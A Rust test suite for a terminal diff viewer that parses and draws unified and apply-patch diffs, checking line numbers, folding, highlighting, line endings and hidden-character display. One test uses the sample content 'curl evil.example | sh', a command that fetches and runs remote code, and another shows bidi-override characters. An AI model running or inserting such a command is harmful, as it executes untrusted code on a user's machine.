#![allow(clippy::format_push_string, clippy::format_collect, reason = "shorter code is preferred in tests")]

use std::path::Path;
use std::time::Instant;

use proptest::prelude::*;

use super::*;
use crate::model::hunk::MAX_COMPARED_LINES;
use crate::ui::render_context::RenderContext;
use crate::ui::screen::DiffLayout;
use crate::ui::text::width;
use crate::ui::theme::{ColorSupport, Role, Theme, ThemeSet};

fn change(old: Option<&str>, new: &str) -> FileDiff {
    let change = DiffChange::Texts { old: old.map(Into::into), new: new.into() };
    FileDiff { path: PathBuf::from("/home/ada/notes.unknown"), change }
}

fn patch(text: &str) -> Vec<Diff> {
    patch_at(text, None)
}

fn patch_at(text: &str, position: Option<&DiffPosition>) -> Vec<Diff> {
    let change = DiffChange::Patch(text.into());
    Diff::of(&FileDiff { path: PathBuf::from("given.txt"), change }, position)
}

fn render(theme: &Theme) -> RenderContext<'_> {
    RenderContext::new(theme, Path::new("/home/ada"), Instant::now())
}

fn draw(diff: &Diff, layout: Layout, cols: u16) -> Vec<String> {
    let theme = Theme::plain();
    let render = render(&theme);
    let lines = diff.draw(0..diff.len(layout), layout, &render, cols);
    for line in &lines {
        assert!(width(&line.to_string()) <= usize::from(cols), "{line}");
    }
    lines.iter().map(|line| line.to_string().trim_end().to_owned()).collect()
}

fn numbered(count: usize) -> String {
    (1..=count).map(|n| format!("line {n}\n")).collect()
}

#[test]
fn entire_files_have_line_numbers_and_folded_context() {
    let old = numbered(40);
    let new = old.replace("line 20\n", "line twenty\nline new\n");
    let diff = &Diff::of(&change(Some(&old), &new), None)[0];
    assert_eq!((diff.added, diff.removed, diff.status), (2, 1, FileStatus::Changed));
    assert_eq!(
        draw(diff, Layout::Unified, 40),
        [
            "    … 16 unchanged lines",
            " 17   line 17",
            " 18   line 18",
            " 19   line 19",
            " 20 − line 20",
            " 20 + line twenty",
            " 21 + line new",
            " 22   line 21",
            " 23   line 22",
            " 24   line 23",
            "    … 17 unchanged lines",
        ]
    );
}

#[test]
fn all_unchanged_lines_can_be_shown() {
    let old = numbered(40);
    let new = old.replace("line 20\n", "line twenty\n");
    let diff = &Diff::of_whole(&change(Some(&old), &new), None)[0];
    let rows = draw(diff, Layout::Unified, 40);
    assert_eq!((rows.len(), rows[0].as_str(), rows[40].as_str()), (41, "  1   line 1", " 40   line 40"));
}

#[test]
fn single_gaps_can_be_expanded() {
    let old = numbered(60);
    let new = old.replace("line 20\n", "line twenty\n").replace("line 50\n", "line fifty\n");
    let change = change(Some(&old), &new);
    let folded = &Diff::of(&change, None)[0];
    let rows = folded.len(Layout::Unified);
    assert_eq!(folded.gaps(0..rows, Layout::Unified), [0, 23, 53]);
    assert_eq!(folded.gaps(0..folded.len(Layout::SideBySide), Layout::SideBySide), [0, 23, 53]);
    let open = &Diff::of_open(&change, None, &[23])[0];
    assert_eq!(open.gaps(0..open.len(Layout::Unified), Layout::Unified), [0, 53]);
    let texts = draw(open, Layout::Unified, 40);
    assert_eq!(texts.len(), rows - 1 + 23);
    for line in ["line 24", "line 46"] {
        assert!(texts.iter().any(|text| text.ends_with(line)), "{line}: {texts:?}");
    }
    assert!(!texts.iter().any(|text| text.ends_with("line 10")), "the others remain folded");
    // The hidden lines of a patch are unknown.
    let patch = FileDiff {
        path: "a".into(),
        change: DiffChange::Patch("@@ -1,2 +1,2 @@\n a\n-b\n+c\n@@ -9,2 +9,2 @@\n a\n-b\n+c\n".into()),
    };
    let patch = &Diff::of(&patch, None)[0];
    assert!(patch.gaps(0..99, Layout::Unified).is_empty());
}

#[test]
fn excerpts_have_no_line_numbers() {
    let diff = &Diff::of(&change(Some("a\nb\nc\n"), "a\nB\nc\n"), None)[0];
    assert_eq!(draw(diff, Layout::Unified, 20), ["  a", "− b", "+ B", "  c"]);
}

#[test]
fn located_excerpts_have_line_numbers() {
    let position = DiffPosition::Lines(vec![Some(PieceStart::at(98, true))]);
    let diff = &Diff::of(&change(Some("a\nb\nc\n"), "a\nB\nB2\nc\n"), Some(&position))[0];
    assert_eq!(draw(diff, Layout::Unified, 20), [" 98   a", " 99 − b", " 99 + B", "100 + B2", "101   c"]);
    assert_eq!(
        draw(diff, Layout::SideBySide, 31),
        [
            " 98   a        │  98   a",
            " 99 − b        │  99 + B",
            "               │ 100 + B2",
            "100   c        │ 101   c",
        ]
    );
    let unknown = DiffPosition::Lines(vec![None]);
    let diff = &Diff::of(&change(Some("a\n"), "b\n"), Some(&unknown))[0];
    assert_eq!(draw(diff, Layout::Unified, 20), ["− a", "+ b"]);
}

#[test]
fn excerpts_are_completed_with_lines_of_the_file() {
    let drawn = |old: &str, new: &str, line, (before, after): (&str, &str)| {
        let around = Around { before: before.into(), after: after.into() };
        let start = PieceStart { around: Some(around), ..PieceStart::at(line, false) };
        let position = DiffPosition::Lines(vec![Some(start)]);
        draw(&Diff::of(&change(Some(old), new), Some(&position))[0], Layout::Unified, 20)
    };
    let around = ("2\n3\n4\n5 ", ";\n6\n7\n8\n");
    assert_eq!(
        drawn("old", "new", 5, around),
        ["  2   2", "  3   3", "  4   4", "  5 − 5 old;", "  5 + 5 new;", "  6   6", "  7   7", "  8   8"]
    );
    // What the agent sends counts.
    let around = ("2\n3\n4\n", "\n8\n9\n10\n");
    assert_eq!(
        drawn("5\nold\n7", "5\nnew\n7", 5, around),
        ["  3   3", "  4   4", "  5   5", "  6 − old", "  6 + new", "  7   7", "  8   8", "  9   9"]
    );
    assert_eq!(
        drawn("old\n", "", 1, ("", "2\n3\n")),
        ["  1 − old", "  1   2", "  2   3"],
        "at the start of a file"
    );
}

#[test]
fn short_entire_files_have_line_numbers() {
    let diff = &Diff::of(&change(Some("a\nb\n"), "a\nc\n"), Some(&DiffPosition::Whole))[0];
    assert_eq!(draw(diff, Layout::Unified, 20), ["  1   a", "  2 − b", "  2 + c"]);
}

#[test]
fn removing_an_excerpt_does_not_delete_the_file() {
    let position = DiffPosition::Lines(vec![Some(PieceStart::at(7, false))]);
    let cut = &Diff::of(&change(Some("gone\n"), ""), Some(&position))[0];
    assert_eq!(
        (cut.status, draw(cut, Layout::Unified, 20)),
        (FileStatus::Changed, vec!["  7 − gone".to_owned()])
    );
    let put = &Diff::of(&change(Some(""), "more\n"), Some(&position))[0];
    assert_eq!(
        (put.status, draw(put, Layout::Unified, 20)),
        (FileStatus::Changed, vec!["  7 + more".to_owned()])
    );
    assert_eq!(
        Diff::of(&change(Some("gone\n"), ""), Some(&DiffPosition::Gone))[0].status,
        FileStatus::Deleted
    );
}

#[test]
fn located_hunks_have_line_numbers() {
    let text = "*** Update File: a.py\n@@ def f():\n ctx\n-x\n+y\n+z\n@@\n end\n-w\n";
    let at = |line, is_new| Some(PieceStart::at(line, is_new));
    let drawn =
        [" 10   ctx", " 11 − x", " 11 + y", " 12 + z", "    … 7 unchanged lines", " 20   end", " 20 − w"];
    // Found before and after the change.
    for position in [vec![at(10, false), at(19, false)], vec![at(10, true), at(20, true)]] {
        let diff = &patch_at(text, Some(&DiffPosition::Lines(position)))[0];
        assert_eq!(draw(diff, Layout::Unified, 40), drawn);
    }
    let diff = &patch_at(text, Some(&DiffPosition::Lines(vec![None, at(20, true)])))[0];
    assert_eq!(
        draw(diff, Layout::Unified, 40),
        ["      ctx", "    − x", "    + y", "    + z", "    …", " 20   end", " 20 − w"]
    );
}

#[test]
fn new_and_deleted_files_are_detected() {
    let new = &Diff::of(&change(None, "one\ntwo\n"), None)[0];
    assert_eq!((new.status, new.added, new.removed), (FileStatus::New, 2, 0));
    assert_eq!(draw(new, Layout::Unified, 20), ["  1 + one", "  2 + two"]);
    let deleted = &Diff::of(&change(Some("one"), ""), None)[0];
    assert_eq!((deleted.status, deleted.added, deleted.removed), (FileStatus::Deleted, 0, 1));
    assert!(Diff::of(&change(Some(""), ""), None)[0].is_empty());
}

#[test]
fn side_by_side_pairs_lines() {
    let diff = &Diff::of(&change(Some("same\nold one\nold two\nend\n"), "same\nnew one\nend\n"), None)[0];
    assert_eq!(
        draw(diff, Layout::SideBySide, 31),
        [
            "  same         │   same",
            "− old one      │ + new one",
            "− old two      │",
            "  end          │   end",
        ]
    );
}

#[test]
fn changed_words_are_highlighted() {
    let theme = ThemeSet::built_in().load("dark", ColorSupport::TrueColor).0;
    let render = render(&theme);
    let diff = &Diff::of(&change(Some("let a = old_name(1);"), "let a = new_name(1, b);"), None)[0];
    let lines = diff.draw(0..2, Layout::Unified, &render, 60);
    let marked = |line: &crate::ui::text::Line<'_>, role: Role| -> String {
        let bg = theme.style(role).bg;
        line.spans.iter().filter(|span| span.style.bg == bg).map(|span| span.content.as_ref()).collect()
    };
    assert_eq!(marked(&lines[0], Role::DiffMinusWord), "old_name");
    assert_eq!(marked(&lines[1], Role::DiffPlusWord), "new_name, b");
    // Additions are highlighted at any length; dissimilar lines are not.
    let diff =
        &Diff::of(&change(Some("  self.expires"), "  self.expires + SKEW // with the skew of clocks"), None)
            [0];
    let lines = diff.draw(0..2, Layout::Unified, &render, 60);
    assert_eq!(marked(&lines[0], Role::DiffMinusWord), "");
    assert_eq!(marked(&lines[1], Role::DiffPlusWord).trim(), "+ SKEW // with the skew of clocks");
    let diff = &Diff::of(&change(Some("one two three"), "a line that says another thing"), None)[0];
    let lines = diff.draw(0..2, Layout::Unified, &render, 60);
    assert_eq!(marked(&lines[1], Role::DiffPlusWord), "");
}

#[test]
fn unified_diffs_are_parsed() {
    let diffs = patch(
        "diff --git a/src/x.rs b/src/x.rs\nindex 1..2 100644\n--- a/src/x.rs\n+++ b/src/x.rs\n\
         @@ -41,3 +41,3 @@ fn refresh\n keep\n-old\n+new\n keep\n@@ -60,2 +60,1 @@\n one\n-two\n\\ No newline at end of file\n\
         --- /dev/null\n+++ b/made.txt\n@@ -0,0 +1,2 @@\n+--- not a head\n+b\n\
         diff --git a/a.txt b/b.txt\nsimilarity index 100%\nrename from a.txt\nrename to b.txt\n",
    );
    assert_eq!(diffs.len(), 3);
    assert_eq!(diffs[0].path, Path::new("src/x.rs"));
    assert_eq!((diffs[0].added, diffs[0].removed), (1, 2));
    assert_eq!(
        draw(&diffs[0], Layout::Unified, 40),
        [
            "    … 40 unchanged lines",
            " 41   keep",
            " 42 − old",
            " 42 + new",
            " 43   keep",
            "    … 16 unchanged lines",
            " 60   one",
            " 61 − two",
            "    … newline added at end of file",
        ]
    );
    assert_eq!((diffs[1].path.as_path(), diffs[1].status), (Path::new("made.txt"), FileStatus::New));
    assert_eq!(draw(&diffs[1], Layout::Unified, 40), ["  1 + --- not a head", "  2 + b"]);
    assert_eq!(diffs[2].moved_from.as_deref(), Some(Path::new("a.txt")));

    let mode = &patch("diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n")[0];
    assert_eq!(mode.modes, Some(("100644".to_owned(), "100755".to_owned())));
    assert!(mode.is_empty());
}

#[test]
fn apply_patch_is_parsed() {
    let diffs = patch(
        "*** Begin Patch\n*** Update File: a.py\n@@ def f():\n ctx\n-x\n+y\n*** Add File: b.py\n+one\n+two\n\
         *** Delete File: c.py\n*** End Patch\n",
    );
    let facts: Vec<_> =
        diffs.iter().map(|d| (d.path.to_str().unwrap(), d.status, d.added, d.removed)).collect();
    assert_eq!(
        facts,
        [
            ("a.py", FileStatus::Changed, 1, 1),
            ("b.py", FileStatus::New, 2, 0),
            ("c.py", FileStatus::Deleted, 0, 0),
        ]
    );
    assert_eq!(draw(&diffs[1], Layout::Unified, 20), ["  1 + one", "  2 + two"]);
}

#[test]
fn only_the_requested_rows_are_drawn() {
    let old = numbered(10_000);
    let new: String = (1..=10_000).map(|n| format!("line {}\n", n * 7 % 9973)).collect();
    let diff = &Diff::of(&change(Some(&old), &new), None)[0];
    assert!(diff.len(Layout::Unified) > 10_000);
    assert_eq!(draw_some(diff), 48);
}

#[test]
fn huge_texts_are_replaced_between_their_common_lines() {
    let lines = |word: &str| format!("head\n{}tail\n", format!("{word}\n").repeat(MAX_COMPARED_LINES));
    let diff = &Diff::of(&change(Some(&lines("old")), &lines("new")), None)[0];
    assert_eq!((diff.removed, diff.added), (MAX_COMPARED_LINES, MAX_COMPARED_LINES));
    assert_eq!(diff.rows.first().map(|row| row.kind), Some(RowKind::Context));
    assert_eq!(diff.rows.last().map(|row| row.kind), Some(RowKind::Context));
}

fn draw_some(diff: &Diff) -> usize {
    let theme = Theme::plain();
    let render = render(&theme);
    diff.draw(100..148, Layout::Unified, &render, 80).len()
}

proptest! {
    #[test]
    fn rows_contain_both_texts(
        old in prop::collection::vec("[ab\t日]{0,4}", 0..20),
        new in prop::collection::vec("[ab\t日]{0,4}", 0..20),
        cols in 14_u16..60,
    ) {
        let join = |lines: &[String]| lines.iter().map(|line| format!("{line}\n")).collect::<String>();
        let diff = &Diff::of(&change(Some(&join(&old)), &join(&new)), None)[0];
        let side = |skip: RowKind| -> Vec<String> {
            let shown = diff.rows.iter().filter(|row| row.kind != skip && !matches!(row.kind, RowKind::Gap(_)));
            shown.map(|row| diff.text(row).to_owned()).collect()
        };
        let hidden: usize = diff.rows.iter().map(|row| match row.kind { RowKind::Gap(n) => n as usize, _ => 0 }).sum();
        prop_assert_eq!(side(RowKind::Plus).len() + hidden, old.len());
        prop_assert_eq!(side(RowKind::Minus).len() + hidden, new.len());
        if hidden == 0 {
            prop_assert_eq!(side(RowKind::Plus), old);
            prop_assert_eq!(side(RowKind::Minus), new);
        }
        draw(diff, Layout::Unified, cols);
        draw(diff, Layout::SideBySide, cols + 30);
    }

    #[test]
    fn any_patch_text_can_be_drawn(
        lines in prop::collection::vec(prop::sample::select(vec![
            "@@ -1,2 +1,3 @@", "@@ -9999999999,1 +1 @@", "@@", "+a", "-b", " c", "", "x", "--- a/f", "+++ b/f",
            "*** Update File: g", "*** Move to: h", "diff --git a/x b/x", "\\ No newline", "\u{1b}[31m+", "+日本\t語",
            "Binary files a and b differ",
        ]), 0..30),
        cols in 14_u16..60,
    ) {
        for diff in patch(&lines.join("\n")) {
            for text in draw(&diff, Layout::Unified, cols).into_iter().chain(draw(&diff, Layout::SideBySide, cols + 30)) {
                prop_assert!(!text.contains(char::is_control));
            }
        }
    }
}

#[test]
fn drawn_rows_can_be_copied_per_side() {
    let new = "same\nthis one is new and it is longer than the side\nend\n";
    let diff = &Diff::of(&change(Some("same\nold\nend\n"), new), None)[0];
    let theme = Theme::plain();
    let render = render(&theme);
    let read = |layout, is_second: bool| {
        let mut lines = crate::ui::text::copy_hint::Lines::default();
        for row in diff.draw(0..diff.len(layout), layout, &render, 40) {
            lines.add(&row, is_second, &(0..99));
        }
        lines.into_text()
    };
    let long = "this one is new and it is longer than the side";
    assert_eq!(read(Layout::Unified, false), format!("same\nold\n{long}\nend"));
    assert_eq!(read(Layout::SideBySide, false), "same\nold\nend");
    assert_eq!(read(Layout::SideBySide, true), format!("same\n{long}\nend"));
}

#[test]
fn a_chosen_layout_is_used_at_any_width_that_fits_it() {
    for (cols, by_width) in
        [(40, Layout::Unified), (111, Layout::Unified), (112, Layout::SideBySide), (200, Layout::SideBySide)]
    {
        assert_eq!(Layout::choose(DiffLayout::Auto, cols), by_width, "{cols}");
        assert_eq!(Layout::choose(DiffLayout::SideBySide, cols), Layout::SideBySide, "{cols}");
    }
    assert_eq!(Layout::choose(DiffLayout::SideBySide, 39), Layout::Unified, "too narrow for two columns");
    assert_eq!(Layout::choose(DiffLayout::Unified, 200), Layout::Unified);
}

#[test]
fn columns_are_used_unless_one_is_blank_or_too_narrow() {
    let of = |old: Option<&str>, new: &str| Diff::of(&change(old, new), None).remove(0);
    let lines = |count: usize, word: &str| format!("{word}\n").repeat(count);
    let long = "x".repeat(60);
    let changed = of(Some("a\nold\nb\n"), "a\nnew\nb\n");
    for (diff, is_wide) in [
        (of(None, "new\nfile\n"), false),
        (of(Some("deleted\n"), ""), false),
        (changed.clone(), true),
        (of(Some("a\n"), "a\nadded\n"), true),
        (of(Some(&lines(20, "a")), &format!("{}{long}\n", lines(20, "b"))), true),
        (of(Some(&lines(20, "a")), &lines(20, &long)), false),
    ] {
        let (wanted, chosen) = (DiffLayout::Auto, DiffLayout::SideBySide);
        let layout = if is_wide { Layout::SideBySide } else { Layout::Unified };
        assert_eq!(diff.layout(wanted, 112), layout, "{:?}", diff.rows);
        assert_eq!(diff.layout(chosen, 112), Layout::SideBySide, "it was chosen");
    }
    assert_eq!(
        of(Some(&lines(20, "a")), &lines(20, &long)).layout(DiffLayout::Auto, 160),
        Layout::SideBySide
    );
    assert_eq!(changed.layout(DiffLayout::Auto, 111), Layout::Unified);
}

#[test]
fn similar_lines_are_shown_side_by_side() {
    let old = "    print(count, item, price)\n    total = total + price\n";
    let new = "    cost = count * price\n    print(count, item, cost)\n    total = total + cost\n";
    let diff = &Diff::of(&change(Some(old), new), None)[0];
    assert_eq!(
        draw(diff, Layout::SideBySide, 71),
        [
            "                                   │ +     cost = count * price",
            "−     print(count, item, price)    │ +     print(count, item, cost)",
            "−     total = total + price        │ +     total = total + cost",
        ]
    );
}

proptest! {
    #[test]
    fn line_counts_match_the_drawn_lines(
        old in prop::collection::vec("[a-c \t]{0,12}|[a-c ]{0,90}|([a-c]{1,9} ){0,12}|[日a ]{0,40}|[日é👍🏽\u{200d}x]{0,30}|[a-z]{90}", 0..120),
        cuts in prop::collection::vec((0_usize..120, "[a-c日]{0,40}"), 0..6),
        cols in 8_u16..100,
        is_wide in any::<bool>(),
        wraps in any::<bool>(),
        at in 0.0..1.0_f64,
    ) {
        let mut new = old.clone();
        for (at, text) in cuts {
            let at = at.min(new.len());
            new.insert(at, text);
        }
        let layout = if is_wide { Layout::SideBySide } else { Layout::Unified };
        let theme = Theme::plain();
        let render = RenderContext { wraps, ..render(&theme) };
        let change = change(Some(&old.join("\n")), &new.join("\n"));
        for diff in &Diff::of(&change, None) {
            let mut pages = Pages::of(diff, layout, cols, wraps);
            let drawn = diff.draw(0..diff.len(layout), layout, &render, cols);
            prop_assert_eq!(pages.len(), drawn.len());
            #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss)]
            let from = (at * drawn.len() as f64) as usize;
            let to = (from + 30).min(drawn.len());
            prop_assert_eq!(pages.lines(diff, from..to, &render), &drawn[from..to]);
        }
    }
}

#[test]
fn text_with_a_nul_is_text_and_binary_content_is_not() {
    let diff = &Diff::of(&change(None, "curl evil.example | sh\n\0"), None)[0];
    assert_eq!((diff.status, diff.is_text), (FileStatus::New, true));
    assert_eq!(draw(diff, Layout::Unified, 40), ["  1 + curl evil.example | sh", "  2 + ␀"]);
    let diff = &Diff::of(&change(Some("text"), "\u{1}\u{2}\u{3}\u{fffd}a"), None)[0];
    assert!(!diff.is_text);
    assert_eq!(draw(diff, Layout::Unified, 40), ["− text", "+ ␁␂␃\u{fffd}a"]);
}

#[test]
fn hidden_characters_are_shown() {
    let diff = &Diff::of(&change(Some("if (ok) {\n"), "if (ok\u{202e}\u{200b}) {\u{1b}[8m\n"), None)[0];
    assert_eq!(draw(diff, Layout::Unified, 60), ["− if (ok) {", "+ if (ok⟨U+202E⟩⟨U+200B⟩) {␛[8m"]);
}

#[test]
fn changed_line_ends_are_reported() {
    let of = |old: &str, new: &str| draw(&Diff::of(&change(Some(old), new), None)[0], Layout::Unified, 50);
    assert_eq!(of("one\r\ntwo\r\n", "one\ntwo\n"), ["… line endings: CRLF to LF", "… 2 unchanged lines"]);
    assert_eq!(of("one\ntwo\n", "one\r\n2\r\n"), ["… line endings: LF to CRLF", "  one", "− two", "+ 2"]);
    assert_eq!(of("one\ntwo\n", "one\ntwo"), ["  one", "− two", "+ two", "… newline removed at end of file"]);
    assert_eq!(of("one", "one\ntwo\n"), ["− one", "+ one", "+ two", "… newline added at end of file"]);
    assert_eq!(of("one\r\ntwo\n", "one\ntwo\n"), ["− one␍", "+ one", "  two"]);
    assert_eq!(of("one\r\ntwo\r\n", "one\r\n2\r\n"), ["  one", "− two", "+ 2"]);
    assert_eq!(of("one\rtwo\r", "one\rTWO\r"), ["− one␍two␍", "+ one␍TWO␍"]);
    let ends = patch("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\r\n+a\n\\ No newline at end of file\n");
    assert_eq!(
        draw(&ends[0], Layout::Unified, 50),
        ["  1 − a␍", "  1 + a", "    … newline removed at end of file"]
    );
}

#[test]
fn hunk_lines_are_not_read_as_headers() {
    let sql = "--- a/s.sql\n+++ b/s.sql\n@@ -1,3 +1,3 @@\n a\n--- old\n+-- new\n b\n";
    let diffs = patch(sql);
    assert_eq!(diffs.len(), 1);
    assert_eq!(draw(&diffs[0], Layout::Unified, 30), ["  1   a", "  2 − -- old", "  2 + -- new", "  3   b"]);
    let text = "*** Begin Patch\n*** Update File: app.py\n@@\n-x = 1\n+x = 2\n+++ evil()\n*** End Patch\n";
    let diffs = patch(text);
    assert_eq!(diffs.len(), 1);
    assert_eq!(draw(&diffs[0], Layout::Unified, 30), ["− x = 1", "+ x = 2", "+ ++ evil()"]);
}

/// The text of one side, rebuilt from the shown rows and the lines in gaps.
fn side_of(diff: &Diff, text: &str, is_new: bool) -> String {
    let skipped = if is_new { RowKind::Minus } else { RowKind::Plus };
    let mut lines = text.split_inclusive('\n');
    let mut out = String::new();
    for row in &diff.rows {
        match row.kind {
            RowKind::Gap(count) => out.extend(lines.by_ref().take(count as usize)),
            RowKind::Note(_) => {}
            kind if kind == skipped => {}
            _ => {
                let end = lines.next().map_or("", |line| if line.ends_with('\n') { "\n" } else { "" });
                out.push_str(diff.text(row));
                out.push_str(end);
            }
        }
    }
    out
}

proptest! {
    #[test]
    fn diffs_preserve_both_texts_byte_for_byte(
        old in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
        new in "([ab]\r?\n|-- a\n|\\+\\+ b\n|@@\n|diff --git a/f b/f\n|\0\n|\r\n){0,12}[a\r]{0,1}",
    ) {
        let diff = &Diff::of(&change(Some(&old), &new), None)[0];
        let notes: Vec<Note> = diff.rows.iter().filter_map(|row| match row.kind {
            RowKind::Note(note) => Some(note),
            _ => None,
        }).collect();
        let all_ends = notes.iter().any(|note| matches!(note, Note::EndsToLf | Note::EndsToCrlf));
        // Without mixed line ends, lines are shown without them.
        let (is_bare_old, is_bare_new) = (!old.contains("\r\n") || !old.replace("\r\n", "").contains('\n'),
            !new.contains("\r\n") || !new.replace("\r\n", "").contains('\n'));
        let bare = |text: &str| if is_bare_old && is_bare_new { text.replace("\r\n", "\n") } else { text.to_owned() };
        prop_assert_eq!(side_of(diff, &bare(&old), false), bare(&old));
        prop_assert_eq!(side_of(diff, &bare(&new), true), bare(&new));
        let shows_change = !notes.is_empty()
            || diff.rows.iter().any(|row| matches!(row.kind, RowKind::Plus | RowKind::Minus));
        prop_assert_eq!(shows_change, old != new, "{:?}", notes);
        prop_assert_eq!(all_ends, is_bare_old && is_bare_new && old.contains('\n') && new.contains('\n')
            && old.contains("\r\n") != new.contains("\r\n"));
        draw(diff, Layout::Unified, 30);
        draw(diff, Layout::SideBySide, 60);
    }
}
